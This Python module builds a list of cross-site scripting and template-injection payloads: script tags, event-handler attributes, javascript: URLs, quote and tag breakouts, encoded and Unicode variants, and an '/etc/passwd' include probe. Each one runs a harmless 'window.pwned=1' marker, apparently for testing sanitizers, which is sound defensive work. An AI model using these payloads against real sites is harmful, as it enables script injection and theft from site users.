"""Words with which others have made pages run what they should only show."""

from __future__ import annotations

_RUN = "window.pwned=1"
_TAGS = [
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script/src=data:,{run}></script>", "<script>{run}//",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'", "<svg onload={run}>", "<svg/onload={run}//",
    "<body onload={run}>", "<iframe srcdoc='<script>parent.{run}</script>'>", "<iframe src=javascript:{run}>",
    "<object data=javascript:{run}>", "<embed src=javascript:{run}>", "<a href=javascript:{run}>x</a>",
    "<details open ontoggle={run}>", "<video><source onerror={run}>", "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<marquee onstart={run}>",
    "<math><mtext><script>{run}</script>", "<style>@import 'data:text/css,x'</style><script>{run}</script>",
    "<link rel=stylesheet href=data:,x onload={run}>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//>", "<form action=javascript:{run}><input type=submit autofocus>",
    "<button formaction=javascript:{run}>x", "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><script>{run}</script>'>", "<textarea></textarea><script>{run}</script>",
]  # fmt: skip
_ENDS = ['"', "'", '">', "'>", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</td></table>", "\\"]
_ENDS += ["</code></pre>", "&quot;&gt;", "&#34;&#62;", "%22%3E"]
_OTHERS = [
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "data:text/html,<script>{run}</script>",
    "{{{{ 7*7 }}}}", "{{% include '/etc/passwd' %}}", "${{{run}}}", "`${{{run}}}`", "'-({run})-'", '";{run};"',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u202e<script>{run}</script>", "\x1b]0;<script>{run}</script>\x07",
]  # fmt: skip
PAYLOADS = tuple(text.format(run=_RUN) for text in _TAGS + _OTHERS) + tuple(
    f"{end}<img src=x onerror={_RUN}>" for end in _ENDS
)
